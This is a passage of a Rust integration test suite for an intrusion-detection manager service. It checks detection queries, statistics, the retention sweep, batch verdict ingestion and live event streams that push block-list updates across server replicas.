    assert_eq!(page1.len(), 2);
    let last = page1[1]["id"].as_i64().unwrap();
    let page2 = s
        .get(
            &s.view,
            &format!("/api/v1/detections?limit=2&before={last}"),
        )
        .await;
    assert_eq!(page2.body.as_array().unwrap().len(), 1);
    assert_eq!(page2.body[0]["key"], "k0");
    let filtered = s
        .get(
            &s.view,
            "/api/v1/detections?addr=198.51.100.1&service=sshd&rule=sshd-bruteforce",
        )
        .await;
    assert_eq!(filtered.body.as_array().unwrap().len(), 1);
    let none = s.get(&s.view, "/api/v1/detections?service=ftp").await;
    assert_eq!(none.body, json!([]));
    let by_attacker = s
        .get(&s.view, &format!("/api/v1/detections?attacker_id={id}"))
        .await;
    assert_eq!(by_attacker.body.as_array().unwrap().len(), 1);
    let bad = s.get(&s.view, "/api/v1/detections?addr=nonsense").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn stats_summarize_the_window() {
    let s = setup().await;
    let mut ftp = verdict("k3", "198.51.100.1");
    ftp["service"] = json!("vsftpd");
    ftp["severity"] = json!("low");
    s.verdicts(json!([
        verdict("k1", "203.0.113.5"),
        verdict("k2", "203.0.113.5"),
        ftp,
    ]))
    .await;
    // Detections are counted by their own time: put them in the current hour, and one 30 h ago.
    sqlx::query("UPDATE detections SET at = now()")
        .execute(&s.db.pool)
        .await
        .unwrap();
    sqlx::query(
        "UPDATE detections SET at = now() - interval '30 hours' WHERE idempotency_key = 'k3'",
    )
    .execute(&s.db.pool)
    .await
    .unwrap();
    s.send(
        &s.oper,
        Method::POST,
        "/api/v1/attackers",
        json!({ "net": "192.0.2.1" }),
    )
    .await;
    let stats = s.get(&s.view, "/api/v1/stats").await;
    assert_eq!(stats.status, StatusCode::OK, "{}", stats.body);
    let b = &stats.body;
    assert_eq!(b["hours"], 24);
    assert_eq!(b["total"], 2);
    let hours = b["attacks_over_time"].as_array().unwrap();
    assert_eq!(hours.len(), 24);
    assert_eq!(hours[23]["count"], 2);
    assert!(hours[..23].iter().all(|h| h["count"] == 0));
    assert!(hours[0]["t"].as_str().unwrap().ends_with(":00:00Z"));
    assert_eq!(b["top_attackers"].as_array().unwrap().len(), 1);
    assert_eq!(b["top_attackers"][0]["addr"], "203.0.113.5");
    assert_eq!(b["top_attackers"][0]["count"], 2);
    assert!(b["top_attackers"][0]["attacker_id"].is_i64());
    assert_eq!(b["per_service"], json!([{ "service": "sshd", "count": 2 }]));
    assert_eq!(
        b["per_severity"],
        json!([
            { "severity": "info", "count": 0 }, { "severity": "low", "count": 0 },
            { "severity": "medium", "count": 0 }, { "severity": "high", "count": 2 },
            { "severity": "critical", "count": 0 },
        ])
    );
    assert_eq!(
        b["agents"],
        json!({ "total": 0, "online": 0, "stale": 0, "revoked": 0 })
    );
    assert_eq!(
        b["attackers"],
        json!({ "live": 3, "manual": 1, "automatic": 2 })
    );
    let wide = s.get(&s.view, "/api/v1/stats?hours=48").await;
    assert_eq!(wide.body["total"], 3);
    assert_eq!(wide.body["attacks_over_time"].as_array().unwrap().len(), 48);
    assert_eq!(
        s.get(&s.view, "/api/v1/stats?hours=0").await.status,
        StatusCode::BAD_REQUEST
    );
}

#[tokio::test]
async fn the_retention_sweep_deletes_old_rows_only() {
    let s = setup().await;
    s.verdicts(json!([
        verdict("old", "203.0.113.5"),
        verdict("new", "203.0.113.6"),
        verdict("x1", "203.0.113.7"),
    ]))
    .await;
    s.sessions(json!([
        { "id": "old", "sandbox": "sb", "addr": "203.0.113.5", "service": "ssh",
          "started_at": "2020-01-01T00:00:00Z" },
        { "id": "new", "sandbox": "sb", "addr": "203.0.113.6", "service": "ssh",
          "started_at": "2099-01-01T00:00:00Z" },
    ]))
    .await;
    let old = "now() - interval '400 days'";
    for sql in [
        format!("UPDATE detections SET at = {old} WHERE idempotency_key IN ('old', 'x1')"),
        "UPDATE detections SET at = now() WHERE idempotency_key = 'new'".to_owned(),
        format!("UPDATE audit_log SET at = {old} WHERE action = 'login'"),
        format!(
            "INSERT INTO login_attempts (username, outcome, at) VALUES ('a', 'failure', {old}), \
             ('b', 'failure', now())"
        ),
        // Revisions 1 and 3 are old, 2 is young: only 1 may go (a prefix), never 3 (the head).
        format!("UPDATE policy_revisions SET at = {old} WHERE revision IN (1, 3)"),
    ] {
        sqlx::query(&sql).execute(&s.db.pool).await.unwrap();
    }
    let logins = s
        .count("SELECT count(*) FROM audit_log WHERE action = 'login'")
        .await;
    assert_eq!(logins, 3);
    let swept = manager::evidence::retention::sweep_once(&s.db.pool)
        .await
        .unwrap();
    assert_eq!(
        swept,
        manager::evidence::retention::Swept {
            detections: 2,
            sandbox_sessions: 1,
            audit_log: 3,
            login_attempts: 1,
            policy_revisions: 1,
        }
    );
    let keys: Vec<String> = sqlx::query_scalar("SELECT idempotency_key FROM detections")
        .fetch_all(&s.db.pool)
        .await
        .unwrap();
    assert_eq!(keys, ["new"]);
    let sessions: Vec<String> = sqlx::query_scalar("SELECT idempotency_key FROM sandbox_sessions")
        .fetch_all(&s.db.pool)
        .await
        .unwrap();
    assert_eq!(sessions, ["new"]);
    let left: Vec<i64> =
        sqlx::query_scalar("SELECT revision FROM policy_revisions ORDER BY revision")
            .fetch_all(&s.db.pool)
            .await
            .unwrap();
    assert_eq!(left, [2, 3]);
    assert_eq!(
        s.count("SELECT count(*) FROM login_attempts WHERE username IN ('a', 'b')")
            .await,
        1
    );
    // The sweep records itself; a second sweep finds nothing.
    assert_eq!(
        s.count("SELECT count(*) FROM audit_log WHERE action = 'retention.sweep'")
            .await,
        1
    );
    let again = manager::evidence::retention::sweep_once(&s.db.pool)
        .await
        .unwrap();
    assert_eq!(again.total(), 0);

    // Everything older than the head, when all of it is old: the head's row stays.
    sqlx::query("UPDATE policy_revisions SET at = now() - interval '100 days'")
        .execute(&s.db.pool)
        .await
        .unwrap();
    let swept = manager::evidence::retention::sweep_once(&s.db.pool)
        .await
        .unwrap();
    assert_eq!(swept.policy_revisions, 1);
    let left: Vec<i64> = sqlx::query_scalar("SELECT revision FROM policy_revisions")
        .fetch_all(&s.db.pool)
        .await
        .unwrap();
    assert_eq!(left, [3]);
}

#[tokio::test]
async fn a_full_batch_is_one_transaction_of_a_few_statements() {
    let s = setup().await;
    s.default_policy(Some(3600), "default").await;
    let batch: Vec<Value> = (0..1000)
        .map(|i| verdict(&format!("k{i}"), &format!("10.{}.{}.1", i / 256, i % 256)))
        .collect();
    let started = std::time::Instant::now();
    let reply = s.verdicts(json!(batch)).await;
    let elapsed = started.elapsed();
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    assert_eq!(reply.body["accepted"], 1000);
    assert_eq!(reply.body["revision"], 1000);
    assert_eq!(s.count("SELECT count(*) FROM attackers").await, 1000);
    assert_eq!(
        s.count("SELECT count(*) FROM detections WHERE attacker_id IS NULL")
            .await,
        0
    );
    // Generous even for an unoptimized build on a busy machine; 1000 round trips would not be.
    assert!(elapsed < Duration::from_secs(20), "{elapsed:?}");
    // The same addresses again: extended expiries, one update revision each.
    let batch: Vec<Value> = (0..1000)
        .map(|i| verdict(&format!("r{i}"), &format!("10.{}.{}.1", i / 256, i % 256)))
        .collect();
    let reply = s.verdicts(json!(batch)).await;
    assert_eq!(reply.body["revision"], 2000);
    assert_eq!(
        s.count("SELECT count(*) FROM policy_revisions WHERE op = 'update'")
            .await,
        1000
    );
    assert_eq!(
        s.count("SELECT sum(evidence_count)::bigint FROM attackers")
            .await,
        10_000
    );
}

// Real HTTP: the live event stream and the cross-replica acceptance test. -------------------------

/// Serves `state` on 127.0.0.1:0; returns the base URL.
async fn serve(state: AppState) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        axum::serve(
            listener,
            app(state).into_make_service_with_connect_info::<SocketAddr>(),
        )
        .await
        .unwrap();
    });
    format!("http://{addr}")
}

/// Reads events from a streaming HTTP response.
struct SseClient {
    resp: reqwest::Response,
    buf: String,
}

impl SseClient {
    async fn open(req: reqwest::RequestBuilder) -> Self {
        let resp = req.send().await.unwrap();
        assert_eq!(resp.status(), reqwest::StatusCode::OK);
        assert_eq!(
            resp.headers()[reqwest::header::CONTENT_TYPE],
            "text/event-stream"
        );
        Self {
            resp,
            buf: String::new(),
        }
    }

    /// The next event (comments skipped), failing after `secs` seconds; `None` if the stream
    /// ended.
    async fn next_within(&mut self, secs: u64) -> Option<SseEvent> {
        let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
        loop {
            if let Some(event) = take_event(&mut self.buf) {
                return Some(event);
            }
            let chunk = tokio::time::timeout_at(deadline, self.resp.chunk())
                .await
                .expect("no event in time")
                .unwrap()?;
            self.buf.push_str(std::str::from_utf8(&chunk).unwrap());
        }
    }
}

async fn http_login(client: &reqwest::Client, base: &str, username: &str) -> String {
    let resp = client
        .post(format!("{base}/api/v1/login"))
        .json(&json!({ "username": username, "password": PASSWORD }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), reqwest::StatusCode::OK);
    resp.headers()[reqwest::header::SET_COOKIE]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_owned()
}

async fn http_verdicts(client: &reqwest::Client, base: &str, credential: &str, v: Value) -> Value {
    let resp = client
        .post(format!("{base}/api/v1/verdicts"))
        .bearer_auth(credential)
        .json(&json!({ "verdicts": v }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), reqwest::StatusCode::OK);
    resp.json().await.unwrap()
}

#[tokio::test]
async fn the_event_stream_delivers_detections_posted_after_connecting() {
    let s = setup().await;
    s.verdicts(json!([verdict("before", "203.0.113.1")])).await;
    let state = s.db.state();
    let bus = state.bus.clone();
    let base = serve(state).await;
    let client = reqwest::Client::new();
    let cookie = http_login(&client, &base, "view").await;
    let events = |since: Option<i64>| {
        let req = client
            .get(format!("{base}/api/v1/events"))
            .header(reqwest::header::COOKIE, &cookie);
        match since {
            Some(id) => req.header("last-event-id", id.to_string()),
            None => req,
        }
    };
    let unauthenticated = client
        .get(format!("{base}/api/v1/events"))
        .send()
        .await
        .unwrap();
    assert_eq!(unauthenticated.status(), reqwest::StatusCode::UNAUTHORIZED);

    // Connected now: only what comes next.
    let mut stream = SseClient::open(events(None)).await;
    let posted = http_verdicts(
        &client,
        &base,
        &s.server,
        json!([verdict("k1", "203.0.113.5"), verdict("k2", "203.0.113.6")]),
    )
    .await;
    assert_eq!(posted["accepted"], 2);
    // Well before the 15 s re-read: only NOTIFY can have woken it.
    let first = stream.next_within(5).await.expect("stream ended");
    assert_eq!(first.event, "detection");
    assert_eq!(first.data["key"], "k1");
    assert_eq!(first.data["addr"], "203.0.113.5");
    assert!(first.data["attacker_id"].is_i64());
    assert_eq!(first.id, first.data["id"].as_i64().unwrap());
    let second = stream.next_within(5).await.expect("stream ended");
    assert_eq!(second.data["key"], "k2");
    assert_eq!(second.id, first.id + 1);

    // A reconnect resumes after Last-Event-ID, without repeating.
    let mut resumed = SseClient::open(events(Some(first.id - 1))).await;
    let again: Vec<String> = [
        resumed.next_within(5).await.unwrap(),
        resumed.next_within(5).await.unwrap(),
    ]
    .iter()
    .map(|e| e.data["key"].as_str().unwrap().to_owned())
    .collect();
    assert_eq!(again, ["k1", "k2"]);

    // Shutdown ends the streams.
    bus.close();
    let ended = stream.next_within(5).await;
    assert!(ended.is_none(), "{ended:?}");
}

#[tokio::test]
async fn a_verdict_posted_to_one_replica_reaches_an_agent_streaming_from_another() {
    let s = setup().await;
    // Two managers on one database, each with its own pool, state and LISTEN connections.
    let replica_a = s.db.state();
    let pool_b = sqlx::postgres::PgPoolOptions::new()
        .max_connections(4)
        .connect(&s.db.url)
        .await
        .unwrap();
    let replica_b = AppState::new(pool_b, test_config());
    let (base_a, base_b) = (serve(replica_a).await, serve(replica_b).await);
    let client = reqwest::Client::new();

    // An agent enrolled through A, streaming from B.
    let token = s
        .send(
            &s.oper,
            Method::POST,
            "/api/v1/enrollment-tokens",
            json!({}),
        )
        .await
        .body["token"]
        .as_str()
        .unwrap()
        .to_owned();
    let enrolled: Value = client
        .post(format!("{base_a}/api/v1/agent/enroll"))
        .json(&json!({ "token": token, "hostname": "web-1" }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let agent = enrolled["credential"].as_str().unwrap().to_owned();
    let mut stream = SseClient::open(
        client
            .get(format!("{base_b}/api/v1/agent/stream"))
            .bearer_auth(&agent),
    )
    .await;
    let snapshot = stream.next_within(10).await.unwrap();
    assert_eq!((snapshot.event.as_str(), snapshot.id), ("snapshot", 0));

    let mut suggested = verdict("k1", "203.0.113.5");
    suggested["action"] = json!("redirect");
    let outcome = http_verdicts(&client, &base_a, &s.server, json!([suggested])).await;
    assert_eq!(outcome["revision"], 1);
    // Well before B's 15 s re-check: A's NOTIFY woke B's LISTEN.
    let delta = stream.next_within(5).await.expect("stream ended");
    assert_eq!((delta.event.as_str(), delta.id), ("delta", 1));
    assert_eq!(delta.data["op"], "add");
    assert_eq!(delta.data["net"], "203.0.113.5/32");
    assert_eq!(delta.data["action"], "redirect");
    assert_eq!(delta.data["details"]["server"], "sensor-1");
}
